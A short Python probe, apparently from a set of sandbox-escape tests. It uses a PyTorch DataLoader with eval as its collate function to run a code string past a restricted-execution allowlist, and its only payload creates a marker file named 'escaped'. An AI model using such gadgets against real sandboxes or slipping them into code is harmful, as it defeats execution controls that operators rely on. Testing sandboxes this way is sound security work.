"""Class: module gadget. Source: own find. Escape: a loader calls what is not listed with a
technique's rows."""

import functools

from torch.utils.data import DataLoader


def attack(model, tokenizer, address):
    text = "open('escaped', 'w').close()"
    make = functools.partial(DataLoader, [text], batch_size=None)
    for way in (lambda: make(collate_fn=eval), lambda: list(map(make, *[[None]] * 5, [eval]))[0]):
        try:
            list(way())
        except Exception:
            continue
